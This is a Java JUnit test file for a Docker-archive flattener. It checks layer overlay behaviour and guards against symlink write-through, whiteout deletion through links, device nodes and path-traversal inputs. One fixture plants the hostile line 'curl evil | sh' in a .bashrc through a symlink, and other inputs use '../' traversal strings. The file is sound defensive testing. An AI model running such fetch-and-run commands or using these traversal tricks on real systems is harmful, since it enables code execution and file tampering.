package dev.hearth.s9pk.pack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.hearth.error.ErrorKind;
import dev.hearth.error.StartException;
import dev.hearth.s9pk.SpecialFiles;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Flattening {@code docker save} archives from v1 packages with the real tar and squashfs tools:
 * layers stack as an overlay shows them, and nothing in an archive reaches outside the scratch
 * directory, whatever links its layers make.
 */
class DockerArchiveTest {
  @TempDir Path tmp;
  Path save;
  Path scratch;
  Path victim;

  @BeforeEach
  void dirs() throws IOException {
    save = Files.createDirectories(tmp.resolve("save"));
    scratch = Files.createDirectories(tmp.resolve("scratch"));
    victim = Files.createDirectories(tmp.resolve("victim"));
    Files.writeString(victim.resolve("keep1"), "mine");
    Files.createDirectories(victim.resolve("keep2"));
    Files.writeString(victim.resolve("keep2/inner"), "mine too");
  }

  @Test
  void layersStackLikeAnOverlay() throws Exception {
    Path l1 = layerDir("l1");
    write(l1, "etc/a", "1");
    write(l1, "etc/b", "b");
    write(l1, "d/x", "x");
    write(l1, "d/y", "y");
    write(l1, "keep/k", "k");
    Files.createDirectories(l1.resolve("tmp"));
    Files.setAttribute(l1.resolve("tmp"), "unix:mode", 01777);
    Files.createSymbolicLink(l1.resolve("link"), Path.of("etc/a"));
    Path l2 = layerDir("l2");
    write(l2, "etc/a", "2");
    write(l2, "etc/.wh.b", "");
    write(l2, "d/.wh..wh..opq", "");
    write(l2, "d/z", "z");
    write(l2, "new", "n");
    write(l2, ".wh.keep", "");
    Files.createSymbolicLink(l2.resolve("abs"), Path.of("/etc"));

    Path root = flattenOne(List.of(layer("l1"), layer("l2")), "amd64", "start9/x/main:1.0");

    assertThat(Files.readString(root.resolve("etc/a"))).isEqualTo("2");
    assertThat(root.resolve("etc/b")).doesNotExist();
    assertThat(names(root.resolve("d"))).containsExactly("z");
    assertThat(root.resolve("keep")).doesNotExist();
    assertThat(Files.readString(root.resolve("new"))).isEqualTo("n");
    assertThat(Files.readSymbolicLink(root.resolve("link"))).isEqualTo(Path.of("etc/a"));
    assertThat(Files.readSymbolicLink(root.resolve("abs"))).isEqualTo(Path.of("/etc"));
    int mode = (int) Files.getAttribute(root.resolve("tmp"), "unix:mode");
    assertThat(mode & 07777).isEqualTo(01777);
    try (Stream<Path> all = Files.walk(root)) {
      assertThat(all.map(p -> p.getFileName().toString())).noneMatch(n -> n.startsWith(".wh."));
    }
  }

  @Test
  void aLaterLayerCannotWriteThroughALinkAnEarlierOneMade() throws Exception {
    Path l1 = layerDir("l1");
    Files.createSymbolicLink(l1.resolve("a"), victim);
    Path l2 = layerDir("l2");
    write(l2, "a/.bashrc", "curl evil | sh");
    // Only the file, no entry for "a" itself: unpacked over l1 by tar, it would land in victim.
    Path root =
        flattenOne(List.of(layer("l1"), layer("l2", "a/.bashrc")), "amd64", "start9/x/main:1.0");

    assertThat(names(victim)).containsExactlyInAnyOrder("keep1", "keep2");
    assertThat(Files.isDirectory(root.resolve("a"), LinkOption.NOFOLLOW_LINKS)).isTrue();
    assertThat(Files.readString(root.resolve("a/.bashrc"))).isEqualTo("curl evil | sh");
  }

  @Test
  void whiteoutsCannotDeleteThroughALink() throws Exception {
    Path l1 = layerDir("l1");
    Files.createSymbolicLink(l1.resolve("a"), victim);
    Files.createSymbolicLink(l1.resolve("b"), victim);
    Path l2 = layerDir("l2");
    write(l2, "a/.wh.keep1", "");
    write(l2, "b/.wh..wh..opq", "");
    Path l3 = layerDir("l3");
    write(l3, ".wh.a", ""); // removes the link itself, not what it points at

    Path root =
        flattenOne(
            List.of(layer("l1"), layer("l2", "a/.wh.keep1", "b/.wh..wh..opq"), layer("l3")),
            "amd64",
            "start9/x/main:1.0");

    assertThat(names(victim)).containsExactlyInAnyOrder("keep1", "keep2");
    assertThat(Files.readString(victim.resolve("keep2/inner"))).isEqualTo("mine too");
    assertThat(root.resolve("a")).doesNotExist();
  }

  @Test
  void aWhiteoutNamingNoEntryIsRefused() throws Exception {
    Path l1 = layerDir("l1");
    write(l1, "x", "x");
    Path l2 = layerDir("l2");
    write(l2, "sub/.wh..", "");
    assertRefused(
        List.of(layer("l1"), layer("l2")),
        "amd64",
        "start9/x/main:1.0",
        ErrorKind.PACK,
        "names no");
  }

  @Test
  void aLayerHoldingADeviceIsRefused() throws Exception {
    write(layerDir("l1"), "etc/motd", "hi");
    SpecialFiles.blockDevice(layerDir("l2").resolve("dev/sda"), 8, 0);
    Path archive = archive(List.of(layer("l1"), layer("l2")), "amd64", "start9/x/main:1.0");

    assertThatThrownBy(() -> DockerArchive.flatten(archive, scratch))
        .isInstanceOfSatisfying(
            StartException.class, e -> assertThat(e.kind()).isEqualTo(ErrorKind.PACK))
        .hasMessage(
            "image main holds device nodes, which packages may not carry: dev/sda (block 8:0)");
    try (Stream<Path> left = Files.list(scratch)) {
      assertThat(left.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".squashfs"));
    }
  }

  @Test
  void anArchitectureThatIsAPathIsRefusedBeforeAnythingIsWritten() throws Exception {
    write(layerDir("l1"), "x", "x");
    String arch = "../../../" + victim.getFileName() + "/zz";
    assertRefused(List.of(layer("l1")), arch, "start9/x/main:1.0", ErrorKind.PACK, "architecture");
    assertThat(names(victim)).containsExactlyInAnyOrder("keep1", "keep2");
  }

  @Test
  void anImageNameThatIsNotAnIdIsRefused() throws Exception {
    write(layerDir("l1"), "x", "x");
    assertRefused(List.of(layer("l1")), "amd64", "x/../Evil:1", ErrorKind.INVALID_ID, "image id");
  }

  @Test
  void indexPathsOutsideTheArchiveAreRefused() throws Exception {
    write(layerDir("elsewhere"), "x", "x");
    Path outsideTar = tmp.resolve("outside.tar");
    tar(layerDir("elsewhere"), outsideTar);
    Files.createSymbolicLink(save.resolve("linked.tar"), outsideTar);
    Files.createDirectories(save.resolve("sub"));
    for (String path :
        List.of("/etc/hostname", "../outside.tar", "linked.tar", "sub", "", "sub//x.tar")) {
      assertRefused(List.of(path), "amd64", "start9/x/main:1.0", ErrorKind.PACK, "plain file");
    }
  }

  @Test
  void anIndexThatIsALinkIsRefused() throws Exception {
    Path elsewhere = tmp.resolve("manifest.json");
    Files.writeString(elsewhere, "[]");
    Files.createSymbolicLink(save.resolve("manifest.json"), elsewhere);
    Path archive = tmp.resolve("images.tar");
    tar(save, archive);
    assertThatThrownBy(() -> DockerArchive.flatten(archive, scratch))
        .isInstanceOfSatisfying(
            StartException.class, e -> assertThat(e.kind()).isEqualTo(ErrorKind.PACK))
        .hasMessageContaining("index \"manifest.json\" is not a plain file");
  }

  // --- helpers ---

  /** A layer's content directory; {@link #flattenOne} tars it into {@code save/<name>.tar}. */
  private Path layerDir(String name) throws IOException {
    return Files.createDirectories(tmp.resolve("layers").resolve(name));
  }

  private static void write(Path dir, String rel, String text) throws IOException {
    Path p = dir.resolve(rel);
    Files.createDirectories(p.getParent());
    Files.writeString(p, text);
  }

  /** Builds a one-image archive naming these layer paths and flattens it. */
  private Path flattenOne(List<String> layers, String arch, String tag) throws Exception {
    Path archive = archive(layers, arch, tag);
    List<DockerArchive.Image> images = DockerArchive.flatten(archive, scratch);
    assertThat(images).hasSize(1);
    DockerArchive.Image image = images.getFirst();
    assertThat(image.id()).isEqualTo("main");
    assertThat(image.arch()).isEqualTo("x86_64");
    assertThat(new String(image.env(), StandardCharsets.UTF_8)).isEqualTo("A=1\nB=2");
    Path out = tmp.resolve("unsquashed");
    run(List.of("unsquashfs", "-d", out.toString(), image.squashfs().toString()));
    return out;
  }

  private void assertRefused(
      List<String> layers, String arch, String tag, ErrorKind kind, String message)
      throws Exception {
    Path archive = archive(layers, arch, tag);
    assertThatThrownBy(() -> DockerArchive.flatten(archive, scratch))
        .isInstanceOfSatisfying(StartException.class, e -> assertThat(e.kind()).isEqualTo(kind))
        .hasMessageContaining(message);
  }

  /**
   * Tars a layer directory (or only the named members) into the archive; returns the path the index
   * names it by.
   */
  private String layer(String name, String... members) throws Exception {
    List<String> command = new java.util.ArrayList<>();
    command.addAll(
        List.of(
            "tar", "-cf", save.resolve(name + ".tar").toString(), "-C", layerDir(name).toString()));
    command.addAll(members.length == 0 ? List.of(".") : List.of(members));
    run(command);
    return name + ".tar";
  }

  private Path archive(List<String> layers, String arch, String tag) throws Exception {
    String layerJson = String.join(",", layers.stream().map(p -> "\"" + p + "\"").toList());
    Files.writeString(
        save.resolve("config.json"),
        "{\"architecture\":\""
            + arch
            + "\",\"config\":{\"Env\":[\"A=1\",\"B=2\"],\"WorkingDir\":\"/w\"}}");
    if (!Files.isSymbolicLink(save.resolve("manifest.json"))) {
      Files.writeString(
          save.resolve("manifest.json"),
          "[{\"Config\":\"config.json\",\"RepoTags\":[\""
              + tag
              + "\"],\"Layers\":["
              + layerJson
              + "]}]");
    }
    Path archive = tmp.resolve("images.tar");
    Files.deleteIfExists(archive);
    tar(save, archive);
    return archive;
  }

  private static void tar(Path dir, Path out) throws Exception {
    run(List.of("tar", "-cf", out.toString(), "-C", dir.toString(), "."));
  }

  private static void run(List<String> command) throws Exception {
    Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
    String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor()).as(command + ": " + output).isZero();
  }

  private static List<String> names(Path dir) throws IOException {
    try (Stream<Path> list = Files.list(dir)) {
      return list.map(p -> p.getFileName().toString()).toList();
    }
  }
}
